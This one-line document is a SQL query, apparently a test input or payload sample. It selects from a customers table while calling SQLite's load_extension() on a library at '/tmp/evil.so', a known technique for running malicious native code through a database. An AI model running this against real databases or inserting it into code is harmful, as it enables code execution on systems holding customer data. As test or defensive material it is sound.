SELECT id, load_extension('/tmp/evil.so') AS name FROM customers
